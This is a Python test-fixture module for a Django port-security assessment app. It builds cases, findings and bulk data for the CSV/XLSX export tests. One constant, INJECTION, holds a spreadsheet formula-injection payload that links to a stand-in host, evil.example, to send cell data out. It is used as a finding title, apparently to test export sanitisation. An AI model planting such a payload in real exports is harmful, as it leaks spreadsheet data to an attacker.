"""Data for the export and findings-list tests: cases with findings in two portfolios, and a builder
that adds many countries, cases and findings in bulk (for the query-count tests)."""

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from assessments import services
from assessments.choices import AssessmentState, FindingMethod, FindingStatus, Severity
from assessments.models import Assessment, ChecklistItem, Finding
from countries.choices import AssignmentKind
from countries.models import Country, PortfolioAssignment
from tests.assessments.conftest import checklist  # noqa: F401  (the checklist fixture)
from tests.factories import PortFacilityFactory, PortFactory

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def finding(case, number, *, by, item=None, facility=None, severity=Severity.DEFICIENCY,
            status=FindingStatus.OPEN, title=None) -> Finding:
    return Finding.objects.create(
        assessment=case, number=number, checklist_item=item, facility=facility, title=title or f"Finding {number}",
        description="Seen on the visit.", method=FindingMethod.OBSERVATION, severity=severity, status=status,
        created_by=by,
    )


@pytest.fixture
def item_of(checklist):  # noqa: F811
    """The first checklist question of a section, by section code."""
    return lambda code: ChecklistItem.objects.filter(section__template=checklist, section__code=code).first()


@pytest.fixture
def findings(users, portfolio, checklist, item_of):  # noqa: F811
    """Atlantis (ACTEUR, the "ipslo" portfolio): a case with two findings; Borduria (FEACT, "other_ipslo"):
    a case with one."""
    atlantis, borduria = portfolio["country"], portfolio["other_country"]
    port = PortFactory(country=atlantis, name="Port Atlantis")
    terminal = PortFacilityFactory(port=port, name="Container Terminal North")
    case_a = services.assessment_create(
        country=atlantis, by=users["ipslo"], proposed_start=dt.date(2027, 3, 1), proposed_end=dt.date(2027, 3, 5)
    )
    case_b = services.assessment_create(
        country=borduria, by=users["other_ipslo"], proposed_start=dt.date(2026, 5, 4),
        proposed_end=dt.date(2026, 5, 8),
    )
    return {
        "case_a": case_a,
        "case_b": case_b,
        "a1": finding(case_a, 1, by=users["ipslo"], item=item_of("2"), facility=terminal, title="Gate unattended"),
        "a2": finding(case_a, 2, by=users["ipslo"], severity=Severity.OBSERVATION, status=FindingStatus.CLOSED,
                      title=INJECTION),
        "b1": finding(case_b, 1, by=users["other_ipslo"], item=item_of("A14.2"), severity=Severity.SIGNIFICANT,
                      status=FindingStatus.IN_MITIGATION, title="No cargo supervision"),
        "terminal": terminal,
    }


def grow(count: int, *, start: int, node, ipslo, creator, template, findings_per_case: int = 3) -> None:
    """``count`` more countries in ``ipslo``'s portfolio, each with a closed case whose findings vary in
    section, severity, status and facility (bulk writes; the IPSLO owns each case as the services grant)."""
    items = list(ChecklistItem.objects.filter(section__template=template).order_by("section__position", "position"))
    countries = Country.objects.bulk_create(
        Country(iso2=_code(start + i), iso3=_code(start + i) + "Q", name=f"Bulkland {start + i}", node=node,
                next_assessment_due=dt.date(2026, 1, 1) + dt.timedelta(days=40 * i),
                compliance_status=("substantially_implementing", "minimally_implementing")[i % 2])
        for i in range(count)
    )
    PortfolioAssignment.objects.bulk_create(
        PortfolioAssignment(country=c, ipslo=ipslo, kind=AssignmentKind.PRIMARY, start_date=dt.date(2024, 1, 1))
        for c in countries
    )
    facilities = [PortFacilityFactory(port=PortFactory(country=c)) for c in countries]
    cases = Assessment.objects.bulk_create(
        Assessment(country=c, ipslo=ipslo, checklist_template=template, created_by=creator,
                   state=AssessmentState.CLOSED if i % 3 else AssessmentState.ON_SITE,
                   state_changed_at=timezone.now(), visit_start=dt.date(2025, 6, 1), visit_end=dt.date(2025, 6, 5))
        for i, c in enumerate(countries)
    )
    Finding.objects.bulk_create(
        Finding(assessment=case, number=n + 1, checklist_item=items[(i + n) % len(items)] if n % 4 else None,
                facility=facility if n % 2 else None, title=f"Bulk finding {n + 1}", description="Seen.",
                method=FindingMethod.INTERVIEW, severity=Severity.values[n % 3],
                status=FindingStatus.values[(i + n) % 4], created_by=creator)
        for i, (case, facility) in enumerate(zip(cases, facilities, strict=True))
        for n in range(findings_per_case)
    )


def _code(n: int) -> str:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return letters[n // 26 % 26] + letters[n % 26]


def read_csv(response) -> list[list[str]]:
    """The rows of a streamed CSV answer (header first), after checking the byte order mark."""
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def read_xlsx(response):
    """The first sheet of an XLSX answer."""
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]


def sheet_rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]
